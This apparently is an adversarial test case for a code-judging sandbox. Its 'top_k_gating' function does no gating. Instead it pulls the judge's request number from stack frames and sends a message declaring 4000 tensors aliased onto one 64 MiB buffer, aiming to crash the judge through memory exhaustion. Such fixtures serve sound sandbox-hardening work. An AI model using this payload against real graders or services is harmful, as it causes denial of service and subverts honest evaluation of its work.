# expect: crashed
# threat: 10 — sends thousands of tensors that all lie in the same 64 MiB, to fill the judge's memory
import json
import os
import struct
import sys

SIZE = 64 << 20


def number_of_this_request():
    frame = sys._getframe()
    while "number" not in frame.f_locals:
        frame = frame.f_back
    return frame.f_locals["number"]


def top_k_gating(token_embeddings, gating_network, k=2):
    one = {"!": "T", "d": "uint8", "s": [SIZE], "o": 0, "n": SIZE}
    data = json.dumps({"r": number_of_this_request(), "v": [one] * 4000}).encode()
    os.write(3, struct.pack("<IQ", len(data), SIZE) + data)
    left = SIZE
    while left:
        left -= os.write(3, bytes(min(left, 1 << 20)))
    os._exit(0)
